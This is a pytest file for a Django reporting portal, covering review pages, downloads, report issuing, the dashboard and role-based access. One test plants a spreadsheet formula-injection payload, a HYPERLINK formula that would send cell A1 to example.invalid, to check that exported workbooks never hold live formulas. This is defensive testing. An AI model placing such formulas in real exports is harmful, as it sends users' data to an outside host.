"""The review page, its downloads, issuing, the data-quality page, the dashboard and the
review API, for the permission triangle."""

from __future__ import annotations

import datetime as dt
import json

import pytest
from django.urls import reverse

from binhyen.accounts.choices import Role
from binhyen.accounts.services import create_user, grant_role
from binhyen.reports.models import IssuedReport

from .conftest import reported

PERIOD = {"start": "01/01/2021", "end": "31/12/2025"}


def review_url(**params) -> str:
    from urllib.parse import urlencode

    return f"{reverse('reports:review')}?{urlencode({**PERIOD, **params})}"


def login(client, user):
    client.force_login(user)
    return client


@pytest.fixture
def viewer(triangle):
    user = create_user("t.viewer", "x-password-1")
    grant_role(user, Role.VIEWER, triangle.parent)
    return user


def test_the_review_page_of_the_province(client, triangle):
    from binhyen.schemes.models import SteeringCommittee
    from binhyen.schemes.services.structure import create_body

    create_body(
        SteeringCommittee, unit=triangle.unit, name="BCĐ", established_on=dt.date(2025, 8, 1)
    )
    response = login(client, triangle.parent_officer).get(review_url(unit="99"))
    assert response.status_code == 200
    review = response.context["review"]
    assert review["unit"]["code"] == "99"
    assert review["sublevel"] == "commune"
    # sub-unit rows drill down to the sub-unit's review
    rows = [
        r
        for section in response.context["sections"]
        for row in section["rows"]
        for b in row["breakdowns"]
        if b["by"] == "unit"
        for r in b["rows"]
        if r["drill"]
    ]
    assert rows
    assert f"unit={rows[0]['code']}" in rows[0]["drill"]
    assert client.get(rows[0]["drill"]).status_code == 200


def test_a_commune_officer_gets_their_commune_and_not_the_province(client, triangle):
    login(client, triangle.officer)
    response = client.get(reverse("reports:review"))
    assert response.status_code == 200
    assert response.context["review"]["unit"]["code"] == triangle.unit.code
    refused = client.get(review_url(unit="99"))
    assert refused.status_code == 400
    assert "unit" in refused.context["form"].errors
    assert "review" not in refused.context


def test_the_outsider_is_refused_the_province(client, triangle):
    response = login(client, triangle.outsider).get(review_url(unit="99"))
    assert response.status_code == 400
    assert "review" not in response.context


@pytest.mark.parametrize(
    ("fmt", "start"),
    [("json", b"{"), ("xlsx", b"PK"), ("docx", b"PK"), ("pdf", b"%PDF"), ("html", b"<!")],
)
def test_downloads(client, triangle, fmt, start):
    login(client, triangle.parent_officer)
    url = reverse("reports:download", args=[fmt]) + "?" + review_url(unit="99").split("?")[1]
    response = client.get(url)
    assert response.status_code == 200, response.content[:300]
    assert response.content.lstrip()[: len(start)] == start
    if fmt == "json":
        assert json.loads(response.content)["format"] == "binhyen.review/1"


def test_an_unknown_format_is_not_found(client, triangle):
    login(client, triangle.parent_officer)
    url = reverse("reports:download", args=["exe"]) + "?unit=99"
    assert client.get(url).status_code == 404


def test_issuing_numbers_per_year_and_freezes_the_figures(client, triangle, viewer):
    login(client, triangle.parent_officer)
    query = review_url(unit="99").split("?")[1]
    issue = reverse("reports:issue") + "?" + query
    first = client.post(issue, {"issuer_code": "CAT"})
    second = client.post(issue, {"issuer_code": "CAT"})
    assert first.status_code == second.status_code == 302
    reports = list(IssuedReport.objects.order_by("number"))
    assert [r.number for r in reports] == [1, 2]
    assert reports[1].review["issue"]["number"] == 2
    detail = client.get(reverse("reports:issued-detail", args=[reports[1].pk]))
    assert detail.status_code == 200
    doc = client.get(reverse("reports:issued-download", args=[reports[1].pk, "json"]))
    assert json.loads(doc.content)["issue"]["issuer_code"] == "CAT"
    assert client.get(reverse("reports:issued-list")).status_code == 200
    # a bad abbreviation issues nothing
    client.post(issue, {"issuer_code": "cat lower"})
    assert IssuedReport.objects.count() == 2
    # a viewer may read but not issue; the outsider sees no issued report
    login(client, viewer).post(issue, {"issuer_code": "CAT"})
    assert IssuedReport.objects.count() == 2
    login(client, triangle.outsider)
    assert client.get(reverse("reports:issued-detail", args=[reports[0].pk])).status_code == 404


def test_the_quality_page_shows_parts_that_do_not_add_up(client, triangle):
    start, end = dt.date(2021, 1, 1), dt.date(2021, 12, 31)
    reported("structure.groups", triangle.parent, start, end, 500)
    reported("structure.groups", triangle.parent, start, end, 420, breakdown="area=rural")
    reported("structure.groups", triangle.parent, start, end, 60, breakdown="area=urban")
    response = login(client, triangle.parent_officer).get(reverse("reports:quality"))
    assert response.status_code == 200
    (rule,) = response.context["reported_rules"]
    assert rule["difference"] == 20
    # the outsider does not see them
    response = login(client, triangle.outsider).get(reverse("reports:quality"))
    assert response.context["reported_rules"] == []


def test_the_dashboard(client, triangle):
    response = login(client, triangle.parent_officer).get(reverse("portal:home"))
    assert response.status_code == 200
    dash = response.context["dash"]
    assert dash["review"]["unit"]["code"] == "99"
    assert [h["figure"]["indicator"] for h in dash["headline"]]
    assert response.context["sub_units"] > 0


def test_the_review_api(client, triangle):
    login(client, triangle.parent_officer)
    url = reverse("api-review")
    response = client.get(url, {"unit": "99", "from": "2021-01-01", "to": "2025-12-31"})
    assert response.status_code == 200
    data = response.json()
    assert data["format"] == "binhyen.review/1"
    assert data["period"] == {"start": "2021-01-01", "end": "2025-12-31"}
    document = client.get(url, {"unit": "99", "from": "2021-01-01", "document": "docx"})
    assert document.status_code == 200 and document.content[:2] == b"PK"
    assert client.get(url, {"unit": "77"}).status_code == 400
    assert client.get(url, {"unit": "99", "document": "exe"}).status_code == 400
    outsider = login(client, triangle.outsider).get(url, {"unit": "99"})
    assert outsider.status_code == 400
    client.logout()
    assert client.get(url, {"unit": "99"}).status_code in (401, 403)


def test_home_for_a_user_without_roles(client, triangle):
    nobody = create_user("t.nobody", "x-password-1")
    response = login(client, nobody).get(reverse("portal:home"))
    assert response.status_code == 200
    assert "dash" not in response.context


@pytest.mark.parametrize(
    "params",
    [
        {"start": "01/01/0001"},
        {"end": "31/12/9999"},
        {"start": "01/01/1950", "end": "31/12/2025"},
        {"start": "31/12/2025", "end": "01/01/2025"},
    ],
)
def test_out_of_range_periods_are_refused(client, triangle, params):
    login(client, triangle.parent_officer)
    response = client.get(review_url(unit="99", **params))
    assert response.status_code == 400
    api = client.get(
        reverse("api-review"),
        {"unit": "99", "from": params.get("start", ""), "to": params.get("end", "")},
    )
    assert api.status_code == 400


def test_each_unit_numbers_its_own_reports(client, triangle):
    login(client, triangle.parent_officer)
    client.post(f"{reverse('reports:issue')}?unit=99&start=01/01/2025", {"issuer_code": "CAT"})
    login(client, triangle.officer)
    code = triangle.unit.code
    client.post(f"{reverse('reports:issue')}?unit={code}&start=01/01/2025", {"issuer_code": "CAT"})
    numbers = dict(IssuedReport.objects.values_list("unit__code", "number"))
    assert numbers == {"99": 1, code: 1}


def test_the_workbook_never_holds_a_formula(client, triangle):
    import io

    from openpyxl import load_workbook

    formula = '=HYPERLINK("http://example.invalid/?"&A1,"Open")'
    reported(
        "tips.received", triangle.parent, dt.date(2021, 1, 1), dt.date(2021, 12, 31), 5, doc=formula
    )
    login(client, triangle.parent_officer)
    url = reverse("reports:download", args=["xlsx"]) + "?" + review_url(unit="99").split("?")[1]
    book = load_workbook(io.BytesIO(client.get(url).content))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert any(c.value == formula for c in cells)
    assert not any(c.data_type == "f" for c in cells)


def test_boundaries_below_provinces_need_a_unit(client, triangle):
    url = reverse("api-boundaries")
    assert client.get(url, {"level": "commune"}).status_code == 400
    assert client.get(url, {"level": "commune", "within": "99"}).status_code == 200


def test_the_document_carries_the_signature_typed_on_the_page(client, triangle):
    import io

    from docx import Document

    login(client, triangle.parent_officer)
    page = client.get(review_url(unit="99"))
    assert "signature_form" in page.context
    query = review_url(unit="99").split("?")[1]
    from urllib.parse import urlencode

    signature = "&" + urlencode(
        {
            "authority": "KT.",
            "on_behalf_of": "GIÁM ĐỐC",
            "title": "PHÓ GIÁM ĐỐC",
            "signer": "Nguyễn Văn A",
            "recipients": "Cục V05;\nLưu: VT.",
        }
    )
    response = client.get(reverse("reports:download", args=["docx"]) + "?" + query + signature)
    assert response.status_code == 200
    document = Document(io.BytesIO(response.content))
    text = "\n".join(p.text for p in document.paragraphs)
    text += "\n".join(c.text for t in document.tables for r in t.rows for c in r.cells)
    assert "Nguyễn Văn A" in text
    assert "KT. GIÁM ĐỐC" in text
    assert "Cục V05;" in text


def test_the_dashboard_is_cached_until_the_next_write(client, triangle):
    from django.core.cache import cache
    from django.db import connection
    from django.test.utils import CaptureQueriesContext
    from django.utils import timezone

    from binhyen.geo import queries as geo_queries
    from binhyen.tips import services as tip_services

    cache.clear()
    login(client, triangle.parent_officer)

    def tips_received():
        with CaptureQueriesContext(connection) as ctx:
            response = client.get(reverse("portal:home"))
        found = {
            h["figure"]["indicator"]: h["figure"] for h in response.context["dash"]["headline"]
        }
        return found["tips.received"]["value"], len(ctx.captured_queries)

    first, cold = tips_received()
    again, warm = tips_received()
    assert again == first and warm < cold / 3
    area = geo_queries.children_on(triangle.unit, geo_queries.today()).first().unit
    tip_services.record_tip(
        received_at=timezone.now(), unit=area, informant=None, channel="phone",
        category="drugs", description="Tin báo kiểm thử",
    )  # fmt: skip
    after, _queries = tips_received()
    assert after == first + 1
